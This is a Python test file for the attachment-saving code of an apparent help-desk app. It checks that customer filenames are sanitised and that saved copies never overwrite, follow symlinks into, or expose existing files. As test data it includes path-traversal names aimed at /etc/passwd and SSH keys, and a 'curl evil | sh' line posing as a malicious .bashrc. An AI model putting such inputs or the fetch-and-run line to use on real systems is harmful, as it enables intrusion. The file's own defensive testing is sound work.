"""Attachment filenames from customers become one harmless path component, and a copy
never replaces, follows or reveals anything already on disk."""

from __future__ import annotations

import os
import stat
import tempfile
from pathlib import Path
from types import SimpleNamespace

import pytest

from omnidesk import blobs
from omnidesk.conversations.attachment_files import (
    export,
    fit_name,
    open_with,
    safe_name,
    save_all,
    viewer_copy,
)
from omnidesk.errors import UserError

SHA = "ab" * 32


@pytest.mark.parametrize(
    ("filename", "expected"),
    [
        ("退款单.pdf", "退款单.pdf"),
        ("قرارداد.docx", "قرارداد.docx"),
        ("számla 2026.pdf", "számla 2026.pdf"),
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\x\\evil.exe", "evil.exe"),
        ("..", SHA[:16]),
        ("...", SHA[:16]),
        ("", SHA[:16]),
        (" . ", SHA[:16]),
        (".bashrc", "_bashrc"),
        ("../.ssh/authorized_keys", "authorized_keys"),
        ("..hidden.pdf", "_hidden.pdf"),
        ("a\udcffb.txt", "a?b.txt"),  # a lone surrogate no file system can take
        ("a\x1b[2Jb\u202e.txt", "a\u241b[2Jb.txt"),  # the escape shown inert, the override gone
    ],
)
def test_safe_name(filename: str, expected: str) -> None:
    assert safe_name(SimpleNamespace(filename=filename, sha256=SHA)) == expected


def test_export_copies_the_bytes_under_the_safe_name(tmp_path) -> None:
    sha = blobs.put(tmp_path / "blobs", b"receipt")
    target = export(tmp_path / "blobs", SimpleNamespace(filename="../r.pdf", sha256=sha), tmp_path / "out")
    assert target == tmp_path / "out" / "r.pdf" and target.read_bytes() == b"receipt"


def test_an_opener_that_cannot_start_is_a_user_error(tmp_path) -> None:
    with pytest.raises(UserError, match=r"cannot run '/nonexistent/viewer' to open x\.pdf"):
        open_with("/nonexistent/viewer --flag", tmp_path / "x.pdf")


def _attachment(tmp_path: Path, filename: str, data: bytes = b"from a stranger") -> SimpleNamespace:
    return SimpleNamespace(filename=filename, sha256=blobs.put(tmp_path / "blobs", data))


def test_an_existing_file_is_never_replaced(tmp_path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "r.pdf").write_bytes(b"mine")
    first = export(tmp_path / "blobs", _attachment(tmp_path, "r.pdf"), out)
    second = export(tmp_path / "blobs", _attachment(tmp_path, "r.pdf"), out)
    assert (first.name, second.name) == ("r (1).pdf", "r (2).pdf")
    assert (out / "r.pdf").read_bytes() == b"mine" and first.read_bytes() == b"from a stranger"


def test_a_dot_file_is_renamed_and_the_real_one_untouched(tmp_path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("export PATH=/usr/bin\n")
    saved = export(tmp_path / "blobs", _attachment(tmp_path, ".bashrc", b"curl evil | sh\n"), home)
    assert saved == home / "_bashrc"
    assert (home / ".bashrc").read_text() == "export PATH=/usr/bin\n"


@pytest.mark.parametrize("dangling", [False, True])
def test_a_planted_symlink_is_never_followed(tmp_path, dangling: bool) -> None:
    out, victim = tmp_path / "Downloads", tmp_path / "victim"
    out.mkdir()
    if not dangling:
        victim.write_bytes(b"precious")
    (out / "name.txt").symlink_to(victim)
    saved = export(tmp_path / "blobs", _attachment(tmp_path, "name.txt"), out)
    assert saved.name == "name (1).txt" and saved.read_bytes() == b"from a stranger"
    assert (victim.read_bytes() == b"precious") if not dangling else not victim.exists()


@pytest.mark.parametrize("umask", [0o022, 0o000])
def test_a_saved_file_is_readable_by_its_owner_only(tmp_path, umask: int) -> None:
    old = os.umask(umask)
    try:
        saved = export(tmp_path / "blobs", _attachment(tmp_path, "a.pdf"), tmp_path / "out")
    finally:
        os.umask(old)
    assert stat.S_IMODE(saved.stat().st_mode) == 0o600


def test_a_404_byte_name_is_shortened_keeping_the_extension(tmp_path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    limit = os.pathconf(out, "PC_NAME_MAX")
    name = "退" * 133 + "x" + ".pdf"  # 404 bytes of UTF-8; a 3-byte character straddles every cut
    assert len(name.encode()) == 404
    first = export(tmp_path / "blobs", _attachment(tmp_path, name), out)
    second = export(tmp_path / "blobs", _attachment(tmp_path, name), out)
    for path, tail in ((first, ".pdf"), (second, " (1).pdf")):
        assert len(path.name.encode()) <= limit and path.name.endswith(tail)
        assert path.name.startswith("退" * 10) and path.read_bytes() == b"from a stranger"


@pytest.mark.parametrize(("name", "limit", "tag", "expected"), [
    ("számla.pdf", 255, "", "számla.pdf"),
    ("számla.pdf", 7, "", "sz.pdf"),  # "á" is two bytes: cut before it, not through it
    ("számla.pdf", 11, " (1)", "sz (1).pdf"),
    ("قرارداد.docx", 12, "", "قرا.docx"),
    ("a." + "x" * 40, 10, "", "a.xxxxxxxx"),  # not an extension: cut like the rest
    ("noext", 3, "", "noe"),
])
def test_fit_name(name: str, limit: int, tag: str, expected: str) -> None:
    assert fit_name(name, limit, tag) == expected
    assert len(expected.encode()) <= limit


def test_save_all_reports_every_file_saved_or_refused(tmp_path) -> None:
    good = _attachment(tmp_path, "számla.pdf")
    lost = SimpleNamespace(filename="lost.pdf", sha256="cd" * 32)  # its blob is not in the store
    report = save_all(tmp_path / "blobs", [good, lost, good], tmp_path / "out")
    assert [p.name for p in report.saved] == ["számla.pdf", "számla (1).pdf"]
    assert report.refused == [("lost.pdf", "its content is missing from the data directory")]
    assert report.severity == "warning"
    assert report.message() == (f"Saved számla.pdf, számla (1).pdf in {tmp_path / 'out'}; "
                                "not saved: lost.pdf (its content is missing from the data directory)")


def test_save_all_into_a_place_that_is_not_a_directory_refuses_each(tmp_path) -> None:
    (tmp_path / "file").write_text("x")
    report = save_all(tmp_path / "blobs", [_attachment(tmp_path, "a.pdf"), _attachment(tmp_path, "b.pdf")],
                      tmp_path / "file")
    assert report.saved == [] and report.severity == "error"
    assert [name for name, _ in report.refused] == ["a.pdf", "b.pdf"] and "File exists" in report.message()


# -- the viewer's copy -----------------------------------------------------------------------


def _private_dir_of_ours(path: Path) -> bool:
    st = os.lstat(path)
    return stat.S_ISDIR(st.st_mode) and st.st_uid == os.getuid() and stat.S_IMODE(st.st_mode) == 0o700


def test_a_planted_viewer_directory_is_not_used(tmp_path, monkeypatch) -> None:
    """An attacker makes the old fixed name first, world-writable, with a symlink waiting inside."""
    monkeypatch.delenv("XDG_RUNTIME_DIR", raising=False)
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    attachment = _attachment(tmp_path, "számla.pdf")
    planted = tmp_path / f"omnidesk-open-{os.getuid()}"
    (planted / attachment.sha256[:16]).mkdir(parents=True)
    victim = tmp_path / "victim"
    victim.write_bytes(b"precious")
    (planted / attachment.sha256[:16] / "számla.pdf").symlink_to(victim)
    for d in (planted, planted / attachment.sha256[:16]):
        d.chmod(0o777)
        if os.getuid() == 0:
            os.chown(d, 65534, 65534)  # another user's, as on a shared host
    path = viewer_copy(tmp_path / "blobs", attachment)
    assert path.name == "számla.pdf" and path.read_bytes() == b"from a stranger"
    assert planted not in path.parents and victim.read_bytes() == b"precious"
    assert _private_dir_of_ours(path.parent) and stat.S_IMODE(path.stat().st_mode) == 0o600
    assert viewer_copy(tmp_path / "blobs", attachment).parent != path.parent  # a fresh one each time


def test_the_runtime_dir_is_used_when_it_is_ours(tmp_path, monkeypatch) -> None:
    runtime = tmp_path / "run"
    runtime.mkdir(mode=0o700)
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(runtime))
    path = viewer_copy(tmp_path / "blobs", _attachment(tmp_path, "a.pdf"))
    assert path.parent.parent == runtime / "omnidesk" and _private_dir_of_ours(runtime / "omnidesk")


@pytest.mark.parametrize("plant", ["symlink", "open to all"])
def test_a_planted_runtime_subdirectory_is_not_used(tmp_path, monkeypatch, plant: str) -> None:
    runtime, elsewhere = tmp_path / "run", tmp_path / "elsewhere"
    runtime.mkdir(mode=0o700)
    elsewhere.mkdir()
    if plant == "symlink":
        (runtime / "omnidesk").symlink_to(elsewhere)
    else:
        (runtime / "omnidesk").mkdir()
        (runtime / "omnidesk").chmod(0o777)
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(runtime))
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "tmp"))
    (tmp_path / "tmp").mkdir()
    path = viewer_copy(tmp_path / "blobs", _attachment(tmp_path, "a.pdf"))
    assert path.parent.parent == tmp_path / "tmp" and _private_dir_of_ours(path.parent)
    assert list(elsewhere.iterdir()) == []
